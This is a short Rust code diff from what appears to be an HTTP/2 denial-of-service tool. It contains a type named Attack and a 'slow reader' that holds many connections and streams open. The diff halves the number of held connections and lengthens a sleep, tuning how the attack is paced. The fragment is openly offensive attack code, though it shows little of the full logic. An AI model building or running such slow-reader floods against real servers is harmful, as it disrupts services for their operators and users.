@@ -38,7 +38,7 @@ const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 /// Bytes that are sent with one call.
 const BATCH_BYTES: usize = 32 * 1024;
 /// How many connections a slow reader holds open at once.
-const HELD: usize = 32;
+const HELD: usize = 16;
 /// Requests on each connection of a slow reader.
 const HELD_STREAMS: u32 = 100;
 
@@ -54,7 +54,7 @@ impl Attack {
             } else {
                 held.extend(self.hold(stream, n_sent));
                 if held.len() >= HELD {
-                    std::thread::sleep(Duration::from_millis(20));
+                    std::thread::sleep(Duration::from_millis(200));
                     held.remove(0);
                 }
             }
